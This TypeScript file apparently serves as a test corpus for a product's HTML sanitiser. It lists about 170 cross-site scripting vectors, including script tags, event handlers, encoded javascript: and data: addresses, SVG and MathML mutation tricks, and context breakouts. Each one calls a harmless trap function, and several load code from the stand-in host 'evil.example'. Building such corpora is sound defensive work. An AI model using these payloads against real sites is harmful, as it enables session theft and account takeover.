/**
 * Ways to smuggle something that runs through text and markup, by the trick they use. Each calls {@link xssTrap} where it
 * works, so that a page may define that function and see that nobody calls it. For every text field of the product and
 * for the sanitiser of articles; cut them where a field is shorter.
 */
export interface XssVector {
  /** What it tries; unique. */
  name: string
  html: string
}

/** Name of the global function a vector calls. */
export const xssTrap = 'xssTrap'

type Vectors = readonly (readonly [name: string, html: string])[]

const call = `${xssTrap}(1)`
const js = `javascript:${call}`
const script = `<script>${call}</script>`
/** `javascript:` in other spellings of its characters. */
const decimal = [...js].map((sign) => `&#${sign.charCodeAt(0)};`).join('')
const padded = [...js].map((sign) => `&#${String(sign.charCodeAt(0)).padStart(7, '0')}`).join('')
const hexadecimal = [...js].map((sign) => `&#x${sign.charCodeAt(0).toString(16)};`).join('')
const base64 = (text: string): string => btoa(text)

const scripts: Vectors = [
  ['script', script],
  ['script in capitals', `<SCRIPT>${call}</SCRIPT>`],
  ['script in mixed case', `<ScRiPt>${call}</sCrIpT>`],
  ['script from elsewhere', '<script src=https://evil.example/x.js></script>'],
  ['script from elsewhere without a scheme', '<script src=//evil.example/x.js></script>'],
  ['script with a slash for a space', '<script/src="data:text/javascript,xssTrap(1)"></script>'],
  ['script that is not closed', `<script>${call}`],
  ['script with a broken end', `<script>${call}</script foo bar>`],
  ['script inside script', `<scr<script>ipt>${call}</scr</script>ipt>`],
  ['script that closes twice', `<<script>${call};//<</script>`],
  ['script behind a null', `<scr\u0000ipt>${call}</scr\u0000ipt>`],
  ['script as a module', `<script type=module>${call}</script>`],
  ['script after an attribute that swallows the end', `<script a=">" src="data:,${call}"></script>`],
  ['script out of a title', `<title><img alt="</title>${script}"></title>`],
  ['script out of a text area', `<textarea><img alt="</textarea>${script}"></textarea>`],
  ['script out of a comment', `<!--><img src="--><script>${call}</script>">`],
  ['script out of a comment that ends early', `<!--> ${script} -->`],
  ['script out of a comment with a bang', `<!-- a --!>${script}<!-- -->`],
  ['script in a conditional comment', `<!--[if gte IE 4]>${script}<![endif]-->`],
  ['script in character data', `<![CDATA[${script}]]>`],
  ['script in a processing instruction', `<?xml version="1.0"?>${script}`],
  ['script in a document type', `<!DOCTYPE x [<!ENTITY y "${script}">]>&y;`],
]

const handlers: Vectors = [
  ['error of a picture', `<img src=x onerror=${call}>`],
  ['error of a picture in quotes', `<img src="x" onerror="${call}">`],
  ['error of a picture in backquotes', `<img src=\`x\` onerror=\`${call}\`>`],
  ['error of a picture after slashes', `<img/src=x/onerror=${call}>`],
  ['error of a picture after a line break', `<img src=x\nonerror\n=\n${call}>`],
  ['error of a picture after a form feed', `<img\fsrc=x\fonerror=${call}>`],
  ['error of a picture after a broken quote', `<img """><img src=x onerror="${call}">`],
  ['error of a picture in entities', `<img src=x onerror="&#120;&#115;&#115;&#84;&#114;&#97;&#112;(1)">`],
  ['error of a picture in mixed case', `<IMG SRC=x OnErRoR=${call}>`],
  ['load of a body', `<body onload=${call}>`],
  ['load of a frame', `<iframe onload=${call}></iframe>`],
  ['load of a style', `<style onload=${call}></style>`],
  ['focus by itself', `<input autofocus onfocus=${call}>`],
  ['blur of a field', `<input autofocus onblur=${call}><input autofocus>`],
  ['focus of a link', `<a href="#x" id=x tabindex=0 onfocus=${call}>a</a>`],
  ['click', `<p onclick=${call}>a</p>`],
  ['pointer over', `<strong onpointerenter=${call}>a</strong>`],
  ['opening details', `<details open ontoggle=${call}>a</details>`],
  ['start of a marquee', `<marquee onstart=${call}>a</marquee>`],
  ['source of a video', `<video><source onerror=${call}></video>`],
  ['error of a video', `<video src=x onerror=${call}></video>`],
  ['error of a sound', `<audio src=x onerror=${call}></audio>`],
  ['end of a transition', `<p style="transition:color 1s" ontransitionend=${call}>a</p>`],
  ['end of an animation', `<style>@keyframes x{}</style><p style="animation-name:x" onanimationend=${call}>a</p>`],
  ['clipboard', `<p contenteditable onpaste=${call}>a</p>`],
  ['wheel', `<blockquote onwheel=${call}>a</blockquote>`],
  ['before the match of a search', `<p hidden=until-found onbeforematch=${call}>a</p>`],
  ['popover', `<button popovertarget=x>a</button><p popover id=x onbeforetoggle=${call}>a</p>`],
  [
    'content that becomes visible',
    `<p style="content-visibility:auto" oncontentvisibilityautostatechange=${call}>a</p>`,
  ],
  ['end of a scroll', `<p onscrollend=${call} style="overflow:auto">a</p>`],
]

const addresses: Vectors = [
  ['javascript address', `<a href="${js}">a</a>`],
  ['javascript address in mixed case', `<a href="JaVaScRiPt:${call}">a</a>`],
  ['javascript address without quotes', `<a href=${js}>a</a>`],
  ['javascript address after spaces', `<a href="  ${js}">a</a>`],
  ['javascript address after control signs', `<a href="\u0001\u0008\u001f${js}">a</a>`],
  ['javascript address with a tab inside', `<a href="java\tscript:${call}">a</a>`],
  ['javascript address with a line break inside', `<a href="jav\nascript:${call}">a</a>`],
  ['javascript address with a carriage return inside', `<a href="jav\rascript:${call}">a</a>`],
  ['javascript address with a tab as an entity', `<a href="jav&#x09;ascript:${call}">a</a>`],
  ['javascript address with a named tab', `<a href="java&Tab;script:${call}">a</a>`],
  ['javascript address with a named line break', `<a href="java&NewLine;script:${call}">a</a>`],
  ['javascript address with a named colon', `<a href="javascript&colon;${call}">a</a>`],
  ['javascript address in decimal entities', `<a href="${decimal}">a</a>`],
  ['javascript address in padded entities', `<a href="${padded}">a</a>`],
  ['javascript address in hexadecimal entities', `<a href="${hexadecimal}">a</a>`],
  ['javascript address with a null inside', `<a href="java\u0000script:${call}">a</a>`],
  ['javascript address behind a comment', `<a href="javascript://%0a${call}">a</a>`],
  ['javascript address in percent signs', `<a href="javascript:%78ssTrap(1)">a</a>`],
  ['javascript address of a picture', `<img src="${js}">`],
  ['javascript address with a zero-width space', `<a href="java\u200bscript:${call}">a</a>`],
  ['vbscript address', `<a href="vbscript:${call}">a</a>`],
  ['data address of a page', `<a href="data:text/html,${script}">a</a>`],
  ['data address in base64', `<a href="data:text/html;base64,${base64(script)}">a</a>`],
  ['data address of a drawing', `<img src="data:image/svg+xml,<svg onload=${call}>">`],
  ['blob address', '<a href="blob:https://pitchside.example/0">a</a>'],
  ['view-source address', `<a href="view-source:${js}">a</a>`],
  ['address without a scheme', '<a href="//evil.example/">a</a>'],
  ['address with backslashes', '<a href="\\\\evil.example/">a</a>'],
  ['address with a slash and a backslash', '<img src="/\\evil.example/x.png">'],
  ['address of a form', `<form action="${js}"><button>a</button></form>`],
  ['address of a button', `<button formaction="${js}">a</button>`],
  ['address of an object', `<object data="${js}"></object>`],
  ['address of an embedded thing', `<embed src="${js}">`],
  ['address of a map', `<map name=x><area href="${js}" shape=default></map><img usemap="#x" src="/a.png">`],
  ['address of a quotation', `<blockquote cite="${js}">a</blockquote>`],
  ['ping of a link', '<a href="/news" ping="https://evil.example/">a</a>'],
  ['set of sources', `<img srcset="${js} 1x, /a.png 2x">`],
  ['set of sources of a picture element', `<picture><source srcset="${js}"><img src="/a.png"></picture>`],
  ['old background', `<table background="${js}"><tr><td>a</td></tr></table>`],
  ['old sources of a picture', `<img dynsrc="${js}" lowsrc="${js}">`],
]

const documents: Vectors = [
  ['frame with a javascript address', `<iframe src="${js}"></iframe>`],
  ['frame with a document', `<iframe srcdoc="${script}"></iframe>`],
  ['frame with a document in entities', `<iframe srcdoc="&lt;script&gt;${call}&lt;/script&gt;"></iframe>`],
  ['set of frames', `<frameset><frame src="${js}"></frameset>`],
  ['base of addresses', '<base href="https://evil.example/"><a href="x">a</a>'],
  ['base of addresses that runs', `<base href="javascript:/a/-${call}//"><a href="#">a</a>`],
  ['refresh', `<meta http-equiv="refresh" content="0;url=${js}">`],
  ['refresh to a data address', `<meta http-equiv="refresh" content="0;url=data:text/html,${script}">`],
  ['content security of the page', '<meta http-equiv="Content-Security-Policy" content="script-src *">'],
  ['style sheet from elsewhere', '<link rel=stylesheet href=//evil.example/x.css>'],
  ['import of a page', '<link rel=import href=//evil.example/x.html>'],
  ['template', `<template>${script}</template>`],
  ['template with a shadow root', `<p><template shadowrootmode=open>${script}</template></p>`],
  ['slot', `<slot onslotchange=${call}></slot>`],
  ['object with a page', `<object data="data:text/html,${script}"></object>`],
  ['portal', `<portal src="${js}" onload=${call}></portal>`],
  ['fenced frame', `<fencedframe src="${js}"></fencedframe>`],
]

const styles: Vectors = [
  ['style with an expression', `<p style="width:expression(${call})">a</p>`],
  ['style with a javascript address', `<p style="background:url(${js})">a</p>`],
  ['style with a behaviour', '<p style="behavior:url(//evil.example/x.htc)">a</p>'],
  ['style over the whole page', '<p style="position:fixed;inset:0;z-index:9999">a</p>'],
  ['style with an escaped address', '<p style="background:\\75rl(javascript:xssTrap(1))">a</p>'],
  ['style sheet with an import', '<style>@import "//evil.example/x.css";</style>'],
  ['style sheet that ends early', `<style></style ><img src=x onerror=${call}></style>`],
  ['style sheet that hides a picture', `<style><img title="</style><img src=x onerror=${call}>"></style>`],
  ['class of the page', '<p class="dialog-overlay" id="root">a</p>'],
]

const foreign: Vectors = [
  ['drawing that loads', `<svg onload=${call}>`],
  ['drawing with a script', `<svg>${script}</svg>`],
  ['drawing with a script in entities', '<svg><script>xssTrap&#40;1&#41;</script></svg>'],
  ['drawing with a link', `<svg><a xlink:href="${js}"><text x=20 y=20>a</text></a></svg>`],
  ['drawing that sets an address', `<svg><a><set attributeName=href to="${js}"/><text y=20>a</text></a></svg>`],
  ['drawing that moves an address', `<svg><a><animate attributeName=href values="${js}"/><text>a</text></a></svg>`],
  ['drawing that begins to move', `<svg><animate onbegin=${call} attributeName=x dur=1s>`],
  ['drawing that uses another', '<svg><use href="data:image/svg+xml,<svg id=x onload=xssTrap(1)/>#x"/></svg>'],
  ['drawing with markup', `<svg><foreignObject><body onload=${call}></body></foreignObject></svg>`],
  ['drawing with a style that ends', `<svg><style><!--</style><img src=x onerror=${call}>--></style></svg>`],
  ['drawing with a title that ends', `<svg><title><p></title><img src=x onerror=${call}></p></title></svg>`],
  ['drawing with a paragraph that leaves', `<svg></p><style><a id="</style><img src=x onerror=${call}>">`],
  ['drawing with a description', `<svg><desc><table><mi><img src=x onerror=${call}></table></desc></svg>`],
  ['formula with an address', `<math href="${js}">a</math>`],
  ['formula with a link', `<math><mrow xlink:href="${js}" xlink:type="simple">a</mrow></math>`],
  [
    'formula that mutates',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call}&gt;">`,
  ],
  [
    'formula with a form inside a form',
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}>`,
  ],
  [
    'formula with an annotation',
    `<math><annotation-xml encoding="text/html"><img src=x onerror=${call}></annotation-xml>`,
  ],
  ['formula with a selection', `<math><select><style></select><img src=x onerror=${call}></style></math>`],
  ['namespace of its own', `<x xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="${js}">a</x>`],
]

const mutations: Vectors = [
  ['no script, then a picture', `<noscript><p title="</noscript><img src=x onerror=${call}>"></noscript>`],
  ['no frames, then a picture', `<noframes><p title="</noframes><img src=x onerror=${call}>"></noframes>`],
  ['no embedding, then a picture', `<noembed><p title="</noembed><img src=x onerror=${call}>"></noembed>`],
  ['old plain text', `<xmp><p title="</xmp><img src=x onerror=${call}>"></xmp>`],
  ['plain text to the end', `<plaintext><img src=x onerror=${call}>`],
  ['listing', `<listing>&lt;img src=x onerror=${call}&gt;</listing>`],
  ['option that closes a selection', `<select><option><style></option></select><img src=x onerror=${call}></style>`],
  ['table that throws out', `<table><p><img src=x onerror=${call}></p></table>`],
  ['attribute without an end', `<img src="x\` \`<script>${call}</script>"\` \`>`],
  ['attribute with a tag inside', `<a href="/a" title="><img src=x onerror=${call}>">a</a>`],
  ['alternative text with a tag', `<img src="/a.png" alt="<script>${call}</script>">`],
  ['alternative text with a quote', `<img src="/a.png" alt="&quot; onerror=${call} x=&quot;">`],
  ['address with a quote', `<a href='/a" onclick="${call}'>a</a>`],
  ['address with a quote as an entity', `<a href="/a&quot; onclick=&quot;${call}">a</a>`],
  ['entities of a tag', '&lt;script&gt;xssTrap(1)&lt;/script&gt;'],
  ['entities of entities', '&amp;lt;img src=x onerror=xssTrap(1)&amp;gt;'],
  ['entities without semicolons', '&lt&#115cript&gtxssTrap(1)&lt/script&gt'],
  ['tag that is not closed', `<img src=x onerror=${call} `],
  ['tag with a second opening', `<p <img src=x onerror=${call}>>a</p>`],
  ['end tag with attributes', `</p onclick=${call}>a`],
  ['end tag that is a comment', `</ ><img src=x onerror=${call}>`],
  ['deep nesting', `${'<p>'.repeat(300)}<img src=x onerror=${call}>${'</p>'.repeat(300)}`],
  ['full-width brackets', '＜script＞xssTrap(1)＜/script＞'],
  ['seven-bit encoding', '+ADw-script+AD4-xssTrap(1)+ADw-/script+AD4-'],
  ['overlong bytes', '\u00c0\u00bcscript\u00c0\u00bexssTrap(1)\u00c0\u00bc/script\u00c0\u00be'],
  ['line separators', `<img src=x\u2028onerror=${call}>`],
  ['right-to-left override', `<a href="\u202e${js}">a</a>`],
  ['byte order mark', `\ufeff${script}`],
  [
    'polyglot',
    `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${call}//'>`,
  ],
  ['clobbering a form', '<form id=location><input name=href></form>'],
  ['clobbering a name', '<img name=getElementById><a id=defaultView>a</a>'],
]

/** Vectors that only work where text is put into something else than markup. */
const contexts: Vectors = [
  ['out of an attribute', `" autofocus onfocus="${call}" x="`],
  ['out of an attribute in single quotes', `' autofocus onfocus='${call}' x='`],
  ['out of a script', `';${call};//`],
  ['out of a script block', `</script>${script}`],
  ['template of a script', `\${${call}}`],
  ['template of a framework', `{{constructor.constructor('${call}')()}}`],
  ['serialised element', `{"$$typeof":"Symbol(react.element)","type":"script","props":{"src":"data:,${call}"}}`],
  ['prototype', `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${call}>"}}}`],
]

const groups = { scripts, handlers, addresses, documents, styles, foreign, mutations, contexts }

/** Every vector, with its group in front of its name. */
export const xssCorpus: readonly XssVector[] = Object.entries(groups).flatMap(([group, vectors]) =>
  vectors.map(([name, html]) => ({ name: `${group}: ${name}`, html })),
)
